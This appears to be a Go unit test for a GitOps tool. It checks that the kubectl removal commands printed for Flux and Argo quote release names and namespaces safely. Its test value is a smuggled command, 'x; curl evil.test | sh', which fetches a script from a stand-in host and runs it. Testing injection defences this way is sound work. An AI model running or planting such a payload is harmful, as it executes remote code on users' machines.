package targets_test

import (
	"strings"
	"testing"

	"github.com/pm-gitops/pm-gitops/render/tree"
	"github.com/pm-gitops/pm-gitops/targets"
)

// TestRemovalQuotesNames: an inventory is a file of the repository, and whoever writes
// it writes no command that a person pastes.
func TestRemovalQuotesNames(t *testing.T) {
	const steered = "x; curl evil.test | sh\n'"
	had := tree.Inventory{
		Environment: "dev",
		Releases:    map[string]tree.InstalledAt{"app": {Namespace: "apps"}, steered: {Namespace: steered}},
		Files:       map[string]string{"prefect/overlays/dev/app/kustomization.yaml": "", "prefect/overlays/dev/" + steered + "/kustomization.yaml": "", "prefect/overlays/dev/" + steered + "2/kustomization.yaml": ""},
	}
	const quoted = `x; curl evil.test | sh\n'\''`
	for name, tt := range map[string]struct {
		lines []string
		want  []string
	}{
		"flux": {targets.Flux{}.AfterRemoval(had, nil), []string{"  kubectl -n apps delete helmrelease app", "  kubectl -n '" + quoted + "' delete helmrelease '" + quoted + "'"}},
		"argo": {targets.Argo{}.AfterRemoval(had, nil), []string{"  kubectl -n argocd delete application dev 'dev-" + quoted + "' dev-app", "  kubectl -n argocd delete application 'dev-" + quoted + "2'"}},
	} {
		for _, want := range tt.want {
			if all := strings.Join(tt.lines, "\n") + "\n"; !strings.Contains(all, want) {
				t.Errorf("%s: %q, want %q", name, tt.lines, want)
			}
		}
	}
}
